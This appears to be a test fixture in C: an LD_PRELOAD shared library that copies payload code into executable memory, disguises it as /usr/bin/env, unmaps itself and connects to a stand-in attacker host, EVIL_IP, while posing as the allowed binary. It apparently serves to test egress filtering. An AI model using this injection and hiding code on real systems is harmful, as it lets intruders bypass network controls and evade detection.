// foothold.so: agent code that gets into an allowed binary through
// LD_PRELOAD and hides: its constructor copies payload.S's code into
// anonymous executable memory (or, with EVIL_COW=1, into a private copy
// of the read-only /usr/bin/env made executable; with EVIL_FORK=1, in a
// forked child), unmaps its own file
// (unless EVIL_NOUNMAP=1) and from there connects to EVIL_IP:80 as the
// binary it was preloaded into, printing the reply. Built with:
//   gcc -shared -fPIC -nostdlib -O2 -o foothold.so foothold.c payload.S
// (amd64; TestEgressBinariesFoothold uses the built file).

extern char payload_start[], payload_end[];
extern char __ehdr_start[], _end[];
static long sc6(long n,long a,long b,long c,long d,long e,long f){long r;register long r10 asm("r10")=d;register long r8 asm("r8")=e;register long r9 asm("r9")=f;
 asm volatile("syscall":"=a"(r):"a"(n),"D"(a),"S"(b),"d"(c),"r"(r10),"r"(r8),"r"(r9):"rcx","r11","memory");return r;}
static int pre(const char*s,const char*p){while(*p){if(*s++!=*p++)return 0;}return 1;}
__attribute__((constructor)) static void init(int argc,char**argv,char**envp){
  unsigned ip=0,cur=0,sh=0; int found=0, nounmap=0, cow=0, forkit=0;
  for(char**e=envp;*e;e++){
    if(pre(*e,"EVIL_IP=")){found=1;const char*s=*e+8;for(;;s++){if(*s>='0'&&*s<='9')cur=cur*10+(*s-'0');else{ip|=cur<<sh;sh+=8;cur=0;if(!*s)break;}}}
    if(pre(*e,"EVIL_NOUNMAP=")) nounmap=1;
    if(pre(*e,"EVIL_COW=")) cow=1;
    if(pre(*e,"EVIL_FORK=")) forkit=1;
  }
  if(!found) return;
  unsigned long n=payload_end-payload_start;
  char*m;
  if(cow){ char p[16]={'/','u','s','r','/','b','i','n','/','e','n','v',0}; long fd=sc6(2,(long)p,0,0,0,0,0);
    m=(char*)sc6(9,0,4096,3,0x02,fd,0); /* private RW copy of a read-only file */
    for(unsigned long i=0;i<n;i++) m[i]=payload_start[i];
    sc6(10,(long)m,4096,5,0,0,0); /* mprotect R+X: maps still says /usr/bin/env */
  } else { m=(char*)sc6(9,0,4096,7,0x22,-1,0);  /* mmap anon RWX */
  for(unsigned long i=0;i<n;i++) m[i]=payload_start[i]; }
  if(forkit){ /* the child connects: a fresh address space, a copy of this one */
    long pid=sc6(57,0,0,0,0,0,0);
    if(pid>0){ int status; sc6(61,pid,(long)&status,0,0,0,0); sc6(231,0,0,0,0,0,0); }
  }
  unsigned long st=(unsigned long)__ehdr_start & ~4095UL, en=((unsigned long)_end+4095)&~4095UL;
  ((void(*)(unsigned long,unsigned long,unsigned long,unsigned long))m)(st, nounmap?0:en-st, ip, (80>>8)|((80&255)<<8));
}
